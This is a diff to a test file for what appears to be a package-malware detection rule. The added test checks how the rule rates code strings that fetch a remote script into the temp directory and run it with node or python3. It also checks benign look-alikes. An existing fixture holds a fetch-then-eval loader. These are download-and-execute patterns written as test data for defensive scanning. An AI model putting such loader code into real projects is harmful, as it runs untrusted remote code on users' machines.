@@ -498,4 +498,11 @@ test('a large library that nothing names loads scripts of pages: high, as is wha
 test('bad: what a manifest of the host calls files', () => {
   const files = { 'package.json': '{}', 'index.js': 'run()', 'part.js': 'fetch(a + b).then((r) => r.text()).then(eval)' };
   assert.equal(findingsOf(rule, files, { entry_points: ['index.js'], original: { files: ['part.js'] } })[0]?.severity, 'critical');
+
+test('a script where temporary files are, that an interpreter gets', () => {
+  const run = (start: string, more = 'require("https").get(u, (r) => r.pipe(w(f)));') => `const f = require("path").join(require("os").tmpdir(), "q" + process.pid + ".js"); ${more} ${start}`;
+  for (const start of ['require("child_process").spawn(process.execPath, [f], { detached: true })', 'require("child_process").execFileSync("node", [f])', 'require("child_process").spawn("python3", ["-u", f])']) assert.equal(worst(run(start)), 'high', start);
+  for (const start of ['require("child_process").spawn("tar", ["-xf", f])', 'require("child_process").execFileSync("git", ["apply", f])', 'require("child_process").spawn(process.execPath, ["build.js"])']) assert.equal(worst(run(start)), 'nothing', start);
+  assert.equal(worst(run('require("child_process").execFileSync("node", [f])', 'write(f);')), 'nothing', 'nothing is downloaded');
+});
 });
